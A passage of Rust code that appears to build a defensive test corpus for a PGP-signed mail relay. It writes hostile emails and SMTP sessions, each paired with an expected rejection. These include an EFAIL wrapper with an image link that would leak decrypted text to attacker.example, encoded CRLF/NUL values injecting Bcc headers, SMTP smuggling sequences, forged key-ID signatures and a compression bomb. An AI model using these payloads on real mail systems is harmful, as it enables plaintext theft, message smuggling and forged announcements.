        &format!("{refused}: MIME nesting over the limit of 8"),
        &mail(PST, "multipart/mixed; boundary=\"b0\"", &body, ""),
    );
    // 1,000 levels of message/rfc822, the signed mail at the bottom.
    let mut inner = good("nested 1000 deep");
    for _ in 0..1000 {
        let mut outer = format!("From: {PST}\r\nContent-Type: message/rfc822\r\n\r\n").into_bytes();
        outer.extend_from_slice(&inner);
        inner = outer;
    }
    write(
        "mail",
        "nesting-message-rfc822-1000-levels.eml",
        "expect: 554 message structure refused: MIME nesting over the limit of 8",
        &mail(PST, "message/rfc822", &inner, ""),
    );
    // 100,000 parts.
    let mut body = Vec::new();
    for _ in 0..100_000 {
        body.extend_from_slice(b"--p\r\n\r\n");
    }
    body.extend_from_slice(b"--p--\r\n");
    write(
        "mail",
        "parts-100000.eml",
        &format!("{refused}: number of MIME parts over the limit of 64"),
        &mail(PST, "multipart/mixed; boundary=\"p\"", &body, ""),
    );
    // A 1 MB header field (folded, as SMTP's 1,000-octet lines require).
    let mut field = String::from("X-Long: start");
    while field.len() < 1_000_000 {
        field.push_str("\r\n ");
        field.push_str(&"a".repeat(900));
    }
    field.push_str("\r\n");
    let g = good("behind a 1 MB header");
    let mut m = field.into_bytes();
    m.extend_from_slice(&g);
    write(
        "mail",
        "header-field-1mb.eml",
        &format!("{refused}: size of a header field (octets) over the limit of 16384"),
        &m,
    );
    // 10,000 header fields.
    let mut m = Vec::new();
    for i in 0..10_000 {
        m.extend_from_slice(format!("X-Filler-{i}: x\r\n").as_bytes());
    }
    m.extend_from_slice(&good("behind 10,000 headers"));
    write(
        "mail",
        "headers-10000.eml",
        &format!("{refused}: header fields in one part over the limit of 500"),
        &m,
    );
    // Base64 inside base64: the signature part is encoded twice.
    let p = part("base64 in base64");
    let sig = sign("pst", &p);
    let twice = b64(b64(&sig).as_bytes());
    let body = format!(
        "--s\r\n{}\r\n--s\r\nContent-Type: application/pgp-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--s--\r\n",
        String::from_utf8_lossy(&p),
        twice
            .as_bytes()
            .chunks(76)
            .map(|c| String::from_utf8_lossy(c).into_owned())
            .collect::<Vec<_>>()
            .join("\r\n")
    );
    write(
        "mail",
        "signature-base64-inside-base64.eml",
        "expect: 550 malformed signature",
        &mail(
            PST,
            "multipart/signed; micalg=pgp-sha512; protocol=\"application/pgp-signature\"; boundary=\"s\"",
            body.as_bytes(),
            "",
        ),
    );

    // EFAIL: a genuine ciphertext to the list, inside attacker parts.
    let ciphertext = armored_message(&encrypt_to_list(&part("efail"), Some("pst"), 0));
    let enc_entity = format!(
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\r\n\r\n\
--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n\
--enc\r\nContent-Type: application/octet-stream\r\n\r\n{}\r\n--enc--\r\n",
        String::from_utf8_lossy(&ciphertext).replace('\n', "\r\n")
    )
    .into_bytes();
    let (ctype, body) = multipart(
        "mixed",
        &[
            b"Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/".to_vec(),
            enc_entity.clone(),
            b"Content-Type: text/html\r\n\r\n\">".to_vec(),
        ],
    );
    write(
        "mail",
        "efail-encrypted-part-between-html.eml",
        "expect: 550 not PGP/MIME signed",
        &mail(PST, &ctype, &body, ""),
    );
    let (ctype, body) = multipart(
        "mixed",
        &[
            b"Content-Type: text/plain\r\n\r\nUNSIGNED-INJECTED see the attachment".to_vec(),
            [b"Content-Disposition: attachment\r\n".to_vec(), enc_entity].concat(),
        ],
    );
    write(
        "mail",
        "efail-encrypted-part-as-attachment.eml",
        "expect: 550 not PGP/MIME signed",
        &mail(PST, &ctype, &body, ""),
    );

    // Unsigned material around a genuine signature.
    let text = b"Content-Type: text/plain\r\n\r\nUNSIGNED-INJECTED text".to_vec();
    let html = b"Content-Type: text/html\r\n\r\n<p>UNSIGNED-INJECTED</p>".to_vec();
    let signed = signed_entity("wrapped");
    for (name, sub, parts) in [
        (
            "unsigned-text-before-signed-part.eml",
            "mixed",
            vec![text.clone(), signed.clone()],
        ),
        (
            "html-beside-signed-part.eml",
            "alternative",
            vec![signed.clone(), html],
        ),
        (
            "signed-mail-forwarded-inside.eml",
            "mixed",
            vec![
                text.clone(),
                [
                    b"Content-Type: message/rfc822\r\n\r\n".to_vec(),
                    good("forwarded"),
                ]
                .concat(),
            ],
        ),
        (
            "signed-part-as-attachment.eml",
            "mixed",
            vec![
                text.clone(),
                [
                    b"Content-Disposition: attachment\r\n".to_vec(),
                    signed.clone(),
                ]
                .concat(),
            ],
        ),
    ] {
        let (ctype, body) = multipart(sub, &parts);
        write(
            "mail",
            name,
            "expect: 550 not PGP/MIME signed",
            &mail(PST, &ctype, &body, ""),
        );
    }
    // A third part inside the multipart/signed, after the signature.
    let g = good("third part");
    let text = String::from_utf8_lossy(&g).into_owned();
    let closing = "\r\n--sig-corpus-boundary--\r\n";
    let third = text.replace(
        closing,
        "\r\n--sig-corpus-boundary\r\nContent-Type: text/plain\r\n\r\nUNSIGNED-INJECTED third part\r\n--sig-corpus-boundary--\r\n",
    );
    assert_ne!(third, text);
    write(
        "mail",
        "third-part-inside-multipart-signed.eml",
        "expect: 554 exactly two parts",
        third.as_bytes(),
    );
}

fn signature_cases() {
    let p = part("signature checks");
    let other = part("something else entirely");
    write(
        "mail",
        "signature-over-different-bytes.eml",
        "expect: 550 signature does not verify",
        &signed_mail(PST, &p, &sign("pst", &other)),
    );
    // The signed part's MIME headers changed after signing.
    let sig = sign("pst", &p);
    let changed = String::from_utf8_lossy(&p).replace("charset=\"utf-8\"", "charset=\"us-ascii\"");
    write(
        "mail",
        "signed-part-mime-headers-changed.eml",
        "expect: 550 signature does not verify",
        &signed_mail(PST, changed.as_bytes(), &sig),
    );
    // Signed with LF line ends (a broken client), sent with CRLF.
    let lf = String::from_utf8_lossy(&p).replace("\r\n", "\n");
    write(
        "mail",
        "signed-part-line-endings-changed.eml",
        "expect: 550 signature does not verify",
        &signed_mail(PST, &p, &sign("pst", lf.as_bytes())),
    );
    // Packet sequences in the signature part.
    let sig_packets = |data: &[u8]| {
        let s = builder_at(signed_at())
            .sign_message(&mut data_signer("pst"), data)
            .unwrap();
        Packet::from(s)
    };
    let literal = {
        let mut l = Literal::new(openpgp::types::DataFormat::Binary);
        l.set_body(b"UNSIGNED-INJECTED literal".to_vec());
        Packet::from(l)
    };
    write(
        "mail",
        "signature-then-literal-packet.eml",
        "expect: 550 malformed signature",
        &signed_mail(PST, &p, &armor_sig(&[sig_packets(&p), literal.clone()])),
    );
    let pst_public = load("pst").strip_secret_key_material();
    write(
        "mail",
        "signature-part-holds-a-public-key.eml",
        "expect: 550 malformed signature",
        &signed_mail(PST, &p, &crypto::armored_public(&pst_public).unwrap()),
    );
    let good_sig = sig_packets(&p).to_vec().unwrap();
    let truncated = armor_raw(
        &good_sig[..good_sig.len() - 20],
        openpgp::armor::Kind::Signature,
    );
    write(
        "mail",
        "signature-packet-truncated.eml",
        "expect: 550 malformed signature",
        &signed_mail(PST, &p, &truncated),
    );
    // A whole signed message (one-pass signature, literal, signature)
    // where a detached signature belongs.
    let inline = {
        let mut sink = Vec::new();
        let m = Message::new(&mut sink);
        let m = Signer::new(m, data_signer("pst")).unwrap().build().unwrap();
        let mut w = LiteralWriter::new(m).build().unwrap();
        w.write_all(&p).unwrap();
        w.finalize().unwrap();
        armor_raw(&sink, openpgp::armor::Kind::Signature)
    };
    write(
        "mail",
        "signature-part-holds-a-signed-message.eml",
        "expect: 550 malformed signature",
        &signed_mail(PST, &p, &inline),
    );
    write(
        "mail",
        "signature-part-garbage.eml",
        "expect: 550 malformed signature",
        &signed_mail(
            PST,
            &p,
            b"-----BEGIN PGP SIGNATURE-----\r\n\r\nAAAA////not-base64****\r\n-----END PGP SIGNATURE-----\r\n",
        ),
    );
    // Compression inside a detached signature: not a signature.
    let compressed = {
        let mut sink = Vec::new();
        let m = Message::new(&mut sink);
        let mut m = Compressor::new(m)
            .algo(CompressionAlgorithm::Zip)
            .build()
            .unwrap();
        sig_packets(&p).serialize(&mut m).unwrap();
        m.finalize().unwrap();
        armor_raw(&sink, openpgp::armor::Kind::Signature)
    };
    write(
        "mail",
        "signature-inside-compressed-packet.eml",
        "expect: 550 malformed signature",
        &signed_mail(PST, &p, &compressed),
    );

    // Keys no announcement may come from.
    for (stem, name, reason) in [
        (
            "pst-expired",
            "key-expired.eml",
            "cannot be used: the certificate has expired",
        ),
        (
            "pst-revoked-hard",
            "key-revoked-compromised.eml",
            "cannot be used: the certificate is revoked",
        ),
        (
            "pst-revoked-soft",
            "key-revoked-superseded.eml",
            "cannot be used: the certificate is revoked",
        ),
        (
            "pst-not-yet-valid",
            "key-not-yet-valid.eml",
            "cannot be used: the certificate is not valid yet",
        ),
        (
            "pst-no-sign-flag",
            "key-subkey-without-signing-flag.eml",
            "cannot be used: the signing key is not marked for signing",
        ),
        (
            "pst-rsa1024",
            "key-rsa-1024.eml",
            "cannot be used: the certificate is rejected by the list's policy",
        ),
        (
            "pst-dsa",
            "key-dsa-elgamal.eml",
            "cannot be used: the certificate is rejected by the list's policy",
        ),
        (
            "attacker",
            "key-unknown-signer.eml",
            "signature not from a PST key",
        ),
    ] {
        let from = addr_of(stem);
        let p = part(name);
        write(
            "mail",
            name,
            &format!("expect: 550 {reason}"),
            &signed_mail(&from, &p, &sign(stem, &p)),
        );
    }
    for (hash, name) in [
        (HashAlgorithm::SHA1, "data-signature-sha1.eml"),
        (HashAlgorithm::MD5, "data-signature-md5.eml"),
    ] {
        let reason = format!("expect: 550 signature made with {hash}");
        let p = part(name);
        let sig = sig_with(
            builder_at(signed_at()).set_hash_algo(hash),
            &mut data_signer("pst"),
            &p,
        );
        write("mail", name, &reason, &signed_mail(PST, &p, &sig));
    }
    // The attacker's signature, claiming the PST key's 64-bit key ID.
    let p = part("key id collision");
    let pst = load("pst");
    let pst_signing_id = pst
        .keys()
        .with_policy(&StandardPolicy::new(), Some(ts(CORPUS_NOW)))
        .for_signing()
        .next()
        .unwrap()
        .key()
        .keyid();
    let mut attacker = data_signer("attacker");
    let attacker_fpr = attacker.public().fingerprint();
    let forged = sig_with(
        builder_at(signed_at())
            .set_issuer(pst_signing_id.clone())
            .unwrap()
            .set_issuer_fingerprint(attacker_fpr)
            .unwrap(),
        &mut attacker,
        &p,
    );
    write(
        "mail",
        "issuer-key-id-of-pst-other-fingerprint.eml",
        "expect: 550 signature does not verify",
        &signed_mail(PST, &p, &forged),
    );
    // The PST key's ID alone, as old signatures carry it: no fingerprint.
    let forged = sig_with(
        builder_at(signed_at()).set_issuer(pst_signing_id).unwrap(),
        &mut data_signer("attacker"),
        &p,
    );
    write(
        "mail",
        "issuer-key-id-of-pst-only.eml",
        "expect: 550 signature does not verify",
        &signed_mail(PST, &p, &forged),
    );
    // A good PST signature beside a bad one, and beside an unknown key's.
    let p = part("two signatures");
    let good_sig = builder_at(signed_at())
        .sign_message(&mut data_signer("pst"), &p)
        .unwrap();
    let bad_sig = builder_at(signed_at())
        .sign_message(&mut data_signer("pst"), &other)
        .unwrap();
    let unknown_sig = builder_at(signed_at())
        .sign_message(&mut data_signer("attacker"), &p)
        .unwrap();
    write(
        "mail",
        "good-pst-signature-plus-bad-signature.eml",
        "expect: 550 signature does not verify",
        &signed_mail(
            PST,
            &p,
            &armor_sig(&[good_sig.clone().into(), bad_sig.into()]),
        ),
    );
    write(
        "mail",
        "good-pst-signature-plus-unknown-signature.eml",
        "expect: 550 signature not from a PST key",
        &signed_mail(PST, &p, &armor_sig(&[good_sig.into(), unknown_sig.into()])),
    );
}

fn armor_raw(binary: &[u8], kind: openpgp::armor::Kind) -> Vec<u8> {
    let mut out = Vec::new();
    let mut w = openpgp::armor::Writer::new(&mut out, kind).unwrap();
    w.write_all(binary).unwrap();
    w.finalize().unwrap();
    out
}

fn encrypted_cases() {
    let p = part("encrypted");
    let ok = encrypt_to_list(&p, Some("pst"), 0);
    let pkts = packets(&ok);
    assert_eq!(pkts.len(), 2, "PKESK and SEIPD");
    let (pkesk, seipd) = (&pkts[0], &pkts[1]);
    let seipd_body = packet_body(seipd);
    assert_eq!(seipd_body[0], 1, "SEIPDv1");
    // SED: the same ciphertext as a packet without integrity protection.
    let sed = [pkesk.clone(), raw_packet(9, &seipd_body[1..])].concat();
    write(
        "mail",
        "encrypted-sed-without-integrity-protection.eml",
        "expect: 550 ciphertext without integrity protection",
        &encrypted_mail(&sed),
    );
    // SEIPD with its MDC cut off (the last 22 octets of ciphertext).
    let stripped = [
        pkesk.clone(),
        raw_packet(18, &seipd_body[..seipd_body.len() - 22]),
    ]
    .concat();
    write(
        "mail",
        "encrypted-mdc-stripped.eml",
        "expect: 550 decryption failed",
        &encrypted_mail(&stripped),
    );
    // One bit flipped in the middle of the ciphertext.
    let mut tampered_body = seipd_body.to_vec();
    let mid = tampered_body.len() / 2;
    tampered_body[mid] ^= 0x01;
    write(
        "mail",
        "encrypted-ciphertext-tampered.eml",
        "expect: 550 decryption failed",
        &encrypted_mail(&[pkesk.clone(), raw_packet(18, &tampered_body)].concat()),
    );
    write(
        "mail",
        "encrypted-compression-nested-64-levels.eml",
        "expect: 550 decryption failed",
        &encrypted_mail(&encrypt_to_list(&p, Some("pst"), 64)),
    );
    // 64 MiB of zeros, compressed to a few dozen KiB: over the 1 MiB limit.
    let mut bomb = p.clone();
    bomb.resize(64 << 20, b'0');
    write(
        "mail",
        "encrypted-decompresses-past-the-size-limit.eml",
        "expect: 550 larger than the limit",
        &encrypted_mail(&encrypt_to_list(&bomb, Some("pst"), 1)),
    );
    // Signed inside by a key that is not the PST's.
    write(
        "mail",
        "encrypted-signed-inside-by-unknown-key.eml",
        "expect: 550 signature not from a PST key",
        &encrypted_mail(&encrypt_to_list(&p, Some("attacker"), 0)),
    );
    // Encrypted to the list, signed by no one.
    write(
        "mail",
        "encrypted-not-signed.eml",
        "expect: 550 encrypted to the list, but not signed",
        &encrypted_mail(&encrypt_to_list(&p, None, 0)),
    );
    // Encrypted, holding unsigned text around a genuine signed entity.
    let (ctype, body) = multipart(
        "mixed",
        &[
            b"Content-Type: text/plain\r\n\r\nUNSIGNED-INJECTED inside the ciphertext".to_vec(),
            signed_entity("inside the ciphertext"),
        ],
    );
    let mut inner = format!("Content-Type: {ctype}\r\n\r\n").into_bytes();
    inner.extend_from_slice(&body);
    write(
        "mail",
        "encrypted-unsigned-text-around-a-signed-entity.eml",
        "expect: 550 encrypted to the list, but not signed",
        &encrypted_mail(&encrypt_to_list(&inner, None, 0)),
    );
}

fn identity_cases() {
    let p = part("identity");
    let sig = sign("pst", &p);
    let (ctype, body) = signed_body(&p, &sig);
    let with_from = |from_lines: &str, extra: &str| {
        let mut out = format!(
            "{from_lines}To: {LIST}\r\nSubject: corpus\r\nDate: Fri, 20 Nov 2026 11:00:00 +0000\r\n\
Message-ID: <corpus@pst.example>\r\n{extra}MIME-Version: 1.0\r\nContent-Type: {ctype}\r\n\r\n"
        )
        .into_bytes();
        out.extend_from_slice(&body);
        out
    };
    write(
        "mail",
        "from-not-a-user-id-of-the-signer.eml",
        "expect: 550 is not a user ID of the signing key",
        &with_from("From: Other PST <other@project.example.org>\r\n", ""),
    );
    write(
        "mail",
        "from-signer-address-only-in-display-name.eml",
        "expect: 550 is not a user ID of the signing key",
        &with_from(
            &format!("From: \"{PST}\" <security@attacker.example>\r\n"),
            "",
        ),
    );
    write(
        "mail",
        "from-empty.eml",
        "expect: 554 From header must name exactly one address",
        &with_from("From: \r\n", ""),
    );
    write(
        "mail",
        "from-two-headers.eml",
        "expect: 554 exactly one From header",
        &with_from(
            &format!("From: {PST}\r\nFrom: security@attacker.example\r\n"),
            "",
        ),
    );
    // Authorization goes by the signer alone: a disagreeing Sender changes
    // nothing, and what goes out is From the list, with no Sender.
    write(
        "mail",
        "sender-header-disagrees.eml",
        "expect: 250\ncheck: outbound-headers",
        &with_from(
            &format!("From: {PST}\r\n"),
            "Sender: evil@attacker.example\r\n",
        ),
    );

    // Replays.
    let original = good("replayed");
    write(
        "mail",
        "replay-byte-identical.eml",
        "send: twice\nexpect: 550 replayed announcement",
        &original,
    );
    let primer = good("replayed with new outer headers");
    write("primers", "replay-original.eml", "", &primer);
    let new_outer = String::from_utf8_lossy(&primer)
        .replace(
            "Subject: corpus\r\n",
            "Subject: URGENT new announcement\r\nX-Resent: yes\r\n",
        )
        .replace(
            "Message-ID: <corpus@pst.example>",
            "Message-ID: <another@pst.example>",
        );
    write(
        "mail",
        "replay-same-signed-body-new-outer-headers.eml",
        "prime: replay-original.eml\nexpect: 550 replayed announcement",
        new_outer.as_bytes(),
    );
    for (name, at, reason) in [
        (
            "signature-older-than-the-window.eml",
            t(CORPUS_NOW) - Duration::hours(73),
            "more than 72 hours ago",
        ),
        (
            "signature-dated-in-the-future.eml",
            t(CORPUS_NOW) + Duration::hours(2),
            "in the future",
        ),
    ] {
        let p = part(name);
        let sig = sig_with(builder_at(at), &mut data_signer("pst"), &p);
        write(
            "mail",
            name,
            &format!("expect: 550 {reason}"),
            &signed_mail(PST, &p, &sig),
        );
    }
}

fn output_cases() {
    // No protected Subject: the outer one, which no signature covers, is
    // what the relay would show; it must not carry a header into the copy.
    let p = compose::text_part(None, &body("outer subject injection"));
    let sig = sign("pst", &p);
    let (ctype, signed) = signed_body(&p, &sig);
    let mut m = format!(
        "From: {PST}\r\nTo: {LIST}\r\nSubject: =?utf-8?q?CVE-2026-0005_x=0D=0ABcc:_evil@attacker.example=00?=\r\n\
Date: Fri, 20 Nov 2026 11:00:00 +0000\r\nMessage-ID: <corpus@pst.example>\r\nMIME-Version: 1.0\r\nContent-Type: {ctype}\r\n\r\n"
    )
    .into_bytes();
    m.extend_from_slice(&signed);
    write(
        "mail",
        "outer-subject-encoded-crlf-nul.eml",
        "expect: 250\ncheck: outbound-headers",
        &m,
    );
    let p = part("display name with NUL");
    write(
        "mail",
        "from-display-name-encoded-nul.eml",
        "expect: 250\ncheck: outbound-headers",
        &signed_mail(
            &format!("=?utf-8?q?PST=00Bcc:_evil@attacker.example?= <{PST}>"),
            &p,
            &sign("pst", &p),
        ),
    );
    let inject = "=?utf-8?q?CVE-2026-0002_x=0D=0ABcc:_evil@attacker.example=00?=";
    let p = compose::text_part(Some(inject), &body("encoded CRLF in the signed subject"));
    write(
        "mail",
        "signed-subject-encoded-crlf-nul.eml",
        "expect: 250\ncheck: outbound-headers",
        &signed_mail(PST, &p, &sign("pst", &p)),
    );
    let raw = "CVE-2026-0003 x\0Bcc: evil@attacker.example";
    let p = compose::text_part(Some(raw), &body("raw NUL in the signed subject"));
    write(
        "mail",
        "signed-subject-raw-nul.eml",
        "expect: 250\ncheck: outbound-headers",
        &signed_mail(PST, &p, &sign("pst", &p)),
    );
    let p = part("display name with CRLF");
    write(
        "mail",
        "from-display-name-encoded-crlf.eml",
        "expect: 250\ncheck: outbound-headers",
        &signed_mail(
            &format!("=?utf-8?q?PST=0D=0ABcc:_evil@attacker.example?= <{PST}>"),
            &p,
            &sign("pst", &p),
        ),
    );
    // A public advisory with leading dots and bare CR and LF (inside base64,
    // the only way they pass SMTP): released at its time, the copy on the
    // public list must verify against the list key byte for byte.
    let advisory = b"Public advisory\r\n.\r\n..two dots\r\n.leading dot\r\nbare LF here\nand bare CR here\rend\r\n";
    let encoded = base64::engine::general_purpose::STANDARD.encode(advisory);
    let entity = format!(
        "Content-Type: multipart/mixed; boundary=\"mix\"; protected-headers=\"v1\"\r\nSubject: CVE-2026-0004: dots\r\n\r\n\
--mix\r\nContent-Type: text/plain; charset=\"utf-8\"\r\n\r\n{}\r\n\
--mix\r\nContent-Type: text/plain; charset=\"utf-8\"; name=\"public-advisory.txt\"\r\n\
Content-Disposition: attachment; filename=\"public-advisory.txt\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{encoded}\r\n--mix--\r\n",
        body("dots").replace('\n', "\r\n")
    );
    write(
        "mail",
        "advisory-leading-dots-and-bare-line-ends.eml",
        "expect: 250\ncheck: release",
        &signed_mail(PST, entity.as_bytes(), &sign("pst", entity.as_bytes())),
    );
}

fn smtp_cases() {
    let first = good("smuggling carrier");
    let second = good("smuggled");
    let smuggled = |ending: &[u8]| {
        let mut data = first.clone();
        data.extend_from_slice(ending);
        data.extend_from_slice(
            format!("MAIL FROM:<{PST}>\r\nRCPT TO:<{LIST}>\r\nDATA\r\n").as_bytes(),
        );
        data.extend_from_slice(&second);
        data.extend_from_slice(b"\r\n.\r\n");
        smtp_session(&data)
    };
    let overlong = [&[b'x'; 1200][..], b"\n.\r\n"].concat();
    for (name, ending) in [
        ("smuggle-lf-dot-lf.smtp", &b"\n.\n"[..]),
        ("smuggle-lf-dot-crlf.smtp", b"\n.\r\n"),
        ("smuggle-crlf-dot-lf.smtp", b"\r\n.\n"),
        ("smuggle-cr-dot-cr.smtp", b"\r.\r"),
        ("smuggle-cr-crlf-dot-crlf.smtp", b"\r\r\n.\r\n"),
        // The bare LF hides at the end of a line over 1,000 octets.
        ("smuggle-lf-dot-crlf-after-overlong-line.smtp", &overlong),
    ] {
        write(
            "smtp",
            name,
            "expect: 554 5.6.0 bare CR or LF\nclosed: yes",
            &smuggled(ending),
        );
    }
    // A bare LF inside an otherwise valid, PST-signed message.
    let text = String::from_utf8_lossy(&first).into_owned();
    let bare = text.replacen("EMBARGOED-PLAINTEXT", "x\nEMBARGOED-PLAINTEXT", 1);
    assert_ne!(bare, text);
    let mut data = bare.into_bytes();
    data.extend_from_slice(b"\r\n.\r\n");
    write(
        "smtp",
        "bare-lf-inside-a-signed-message.smtp",
        "expect: 554 5.6.0 bare CR or LF\nclosed: yes",
        &smtp_session(&data),
    );
    // Commands and data in one write: DATA ends a pipelined group (RFC
    // 2920), so data before its 354 is refused, PIPELINING offered or not.
    let mut pipelined =
        format!("EHLO client.example\r\nMAIL FROM:<{PST}>\r\nRCPT TO:<{LIST}>\r\nDATA\r\n")
            .into_bytes();
    pipelined.extend_from_slice(&first);
    pipelined.extend_from_slice(b"\r\n.\r\nQUIT\r\n");
    write(
        "smtp",
        "data-sent-before-354.smtp",
        "pipelined: yes\nexpect: 503 5.5.0 data sent before 354",
        &pipelined,
    );
    let long_command = format!(
        "EHLO client.example\r\nMAIL FROM:<{}@project.example.org>\r\nQUIT\r\n",
        "a".repeat(600)
    );
    write(
        "smtp",
        "command-line-over-512-octets.smtp",
        "expect: 500 5.5.2 command line too long",
        long_command.as_bytes(),
    );
    let mut long_text = first.clone();
    let at = long_text.windows(2).position(|w| w == b"\r\n").unwrap();
    long_text.splice(at..at, std::iter::repeat_n(b'x', 1200));
    long_text.extend_from_slice(b"\r\n.\r\nQUIT\r\n");
    write(
        "smtp",
        "text-line-over-1000-octets.smtp",
        "expect: 554 5.6.0 line longer than 1000 octets",
        &smtp_session(&long_text),
    );
    let over_size = format!("EHLO client.example\r\nMAIL FROM:<{PST}> SIZE=2000000\r\nQUIT\r\n");
    write(
        "smtp",
        "size-declared-over-the-limit.smtp",
        "expect: 552 5.3.4",
        over_size.as_bytes(),
    );
    let mut big = first.clone();
    let at = big.len() - 2;
    let filler: Vec<u8> =
        std::iter::repeat_n(&b"filler line filler line filler line\r\n"[..], 32_000)
            .flatten()
            .copied()
            .collect();
    big.splice(at..at, filler);
    big.extend_from_slice(b"\r\n.\r\nQUIT\r\n");
    write(
        "smtp",
        "data-over-the-size-limit.smtp",
        "expect: 552 5.3.4",
        &smtp_session(&big),
    );
    write(
        "smtp",
        "client-silent-after-ehlo.smtp",
        "hold: open\nexpect: 421 4.4.2",
        b"EHLO client.example\r\n",
    );
    let mut partial = first[..first.len() / 2].to_vec();
    partial = smtp_session(&partial);
    write(
        "smtp",
        "client-silent-in-data.smtp",
        "hold: open\nexpect: 421 4.4.2 timeout in DATA",
        &partial,
    );
    write(
        "smtp",
        "many-idle-connections.smtp",
        "idle-connections: 40\nexpect: 421 4.3.2 too many connections",
        b"EHLO client.example\r\nQUIT\r\n",
    );
    let mut full = smtp_session(&first);
    full.extend_from_slice(b"\r\n.\r\nQUIT\r\n");
    write(
        "smtp",
        "disk-full-while-spooling.smtp",
        "disk: full\nexpect: 451 4.3.0",
        &full,
    );
}
